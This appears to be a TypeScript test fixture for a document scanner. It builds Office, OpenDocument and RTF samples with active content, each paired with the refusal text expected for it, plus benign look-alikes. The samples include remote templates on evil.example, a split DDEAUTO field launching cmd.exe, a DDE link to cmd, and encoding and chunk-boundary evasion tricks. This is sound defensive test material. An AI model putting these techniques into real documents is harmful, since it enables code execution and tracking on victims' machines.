import { officeFile, openDocumentFile, relationships } from './archives.ts'

export type ActiveFile = [name: string, content: Buffer | Promise<Buffer>, what: RegExp]
export type OrdinaryFile = [name: string, content: Buffer | Promise<Buffer>]

const rels = (...all: Parameters<typeof relationships>) => ({
  'word/_rels/document.xml.rels': relationships(...all),
})
const settings = (target: string) => ({
  'word/_rels/settings.xml.rels': relationships(['attachedTemplate', target, 'External']),
})
const field = (...pieces: string[]) => ({
  'word/document.xml': `<w:document>${pieces.map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`).join('')}</w:document>`,
})

/** Office files with active content, and what their refusal names. */
export const activeOfficeFiles: Record<string, ActiveFile> = {
  'a Word file with a template on the web': [
    'a.docx',
    officeFile('docx', settings('https://evil.example/t.dotm')),
    /a template from elsewhere/,
  ],
  'a Word file with a template on somebody else\u2019s server': [
    'a.docx',
    officeFile('docx', settings('file:///\\\\evil.example\\t.dotm')),
    /a template from elsewhere/,
  ],
  'a Word file whose relationships are written in UTF-16': [
    'a.docx',
    officeFile('docx', {
      'word/_rels/settings.xml.rels': Buffer.from(
        `\uFEFF${settings('https://evil.example/t.dotm')['word/_rels/settings.xml.rels']}`,
        'utf16le',
      ),
    }),
    /a template from elsewhere/,
  ],
  'a Word file whose relationship is spelt in escapes': [
    'a.docx',
    officeFile('docx', {
      'word/_rels/settings.xml.rels':
        "<r:Relationships><r:Relationship TargetMode='&#x45;xternal' Type='x/attachedTemplate' Target='&#104;ttp://evil.example/t'\n></r:Relationship></r:Relationships>",
    }),
    /a template from elsewhere/,
  ],
  'a Word file with entities of its own': [
    'a.docx',
    officeFile('docx', { 'word/_rels/x.rels': '<!DOCTYPE a [<!ENTITY b "External">]><Relationships/>' }),
    /cannot be read/,
  ],
  'a Word file with a picture from the web': [
    'a.docx',
    officeFile('docx', rels(['image', 'https://evil.example/pixel.png', 'External'])),
    /loaded from elsewhere/,
  ],
  'a Word file with an embedded object': [
    'a.docx',
    officeFile('docx', { 'word/embeddings/oleObject1.bin': 'x' }),
    /an embedded object/,
  ],
  'a Word file with a linked object': [
    'a.docx',
    officeFile('docx', rels(['oleObject', 'file:///C:\\x.xlsx', 'External'])),
    /an embedded object/,
  ],
  'a Word file with ActiveX': [
    'a.docx',
    officeFile('docx', { 'word/activeX/activeX1.xml': '<a/>' }),
    /ActiveX/,
  ],
  'a Word file with a field in pieces that starts a program': [
    'a.docx',
    officeFile('docx', field(' DD', 'EAUTO c:\\\\windows\\\\cmd.exe ')),
    /another program/,
  ],
  'an Excel file with a link to a program': [
    'a.xlsx',
    officeFile('xlsx', {
      'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
    }),
    /another program/,
  ],
  'an Excel file with macros': [
    'a.xlsx',
    officeFile('xlsx', { 'xl/macrosheets/sheet1.xml': '<a/>' }),
    /macros/,
  ],
  'a PowerPoint file with an embedded program': [
    'a.pptx',
    officeFile('pptx', { 'ppt/embeddings/tool.exe': 'MZ' }),
    /an embedded object/,
  ],
  'an OpenDocument text with macros': [
    'a.odt',
    openDocumentFile(undefined, { 'Basic/Standard/Module1.xml': '<a/>' }),
    /macros/,
  ],
  'an OpenDocument text with scripts': [
    'a.odt',
    openDocumentFile(undefined, { 'Scripts/python/a.py': 'x' }),
    /macros/,
  ],
  'an OpenDocument text that calls a macro when it is opened': [
    'a.odt',
    openDocumentFile(
      '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a.b?language=Basic"/>',
    ),
    /macros/,
  ],
  'an OpenDocument text with an embedded object': [
    'a.odt',
    openDocumentFile('<draw:object-ole xlink:href="./Object 1"/>'),
    /an embedded object/,
  ],
  'a rich text with an object': [
    'a.rtf',
    Buffer.from('{\\rtf1 {\\object\\objemb{\\*\\objdata 0105}}}'),
    /an embedded object/,
  ],
  'a rich text with a template on the web': [
    'a.rtf',
    Buffer.from('{\\rtf1 {\\*\\template http://evil.example/t.dotm}}'),
    /a template from elsewhere/,
  ],
  'a rich text with an object across the end of a piece': [
    'a.rtf',
    Buffer.from(`{\\rtf1 ${'x'.repeat(64 * 1024 - 12)}{\\object\\objemb}}`),
    /an embedded object/,
  ],
}

/** Office files that look alike, and do nothing. */
export const ordinaryOfficeFiles: Record<string, OrdinaryFile> = {
  'a letter with links and the template of its author': [
    'a.docx',
    officeFile('docx', {
      ...rels(['hyperlink', 'https://www.nhs.uk/', 'External'], ['image', 'media/image1.png']),
      ...settings('file:///C:\\Users\\ada\\Templates\\Letter.dotx'),
      ...field(' HYPERLINK "https://www.nhs.uk/" ', ' PAGE '),
    }),
  ],
  'a table with a chart and other workbooks': [
    'a.xlsx',
    officeFile('xlsx', {
      'xl/externalLinks/externalLink1.xml': '<externalLink><externalBook r:id="rId1"/></externalLink>',
      'xl/externalLinks/_rels/externalLink1.xml.rels': relationships([
        'externalLinkPath',
        'Rota.xlsx',
        'External',
      ]),
      'xl/printerSettings/printerSettings1.bin': 'x',
    }),
  ],
  'slides with a chart and a film': [
    'a.pptx',
    officeFile('pptx', {
      'ppt/embeddings/Microsoft_Excel_Sheet1.xlsx': 'PK',
      'ppt/slides/_rels/slide1.xml.rels': relationships(['video', 'https://video.example/1', 'External']),
    }),
  ],
  'an OpenDocument text with links, a picture and a template': [
    'a.odt',
    openDocumentFile(
      '<text:a xlink:href="https://www.nhs.uk/">NHS</text:a><draw:image xlink:href="Pictures/1.png" xlink:actuate="onLoad"/>',
      { 'Object 1/content.xml': '<office:document-content/>', 'Configurations2/images/a.xml': '' },
    ),
  ],
  'a rich text with a link and a template': [
    'a.rtf',
    Buffer.from(
      '{\\rtf1 {\\*\\template C:\\\\Letter.dot}{\\field{\\*\\fldinst HYPERLINK "https://www.nhs.uk/"}}}',
    ),
  ],
}
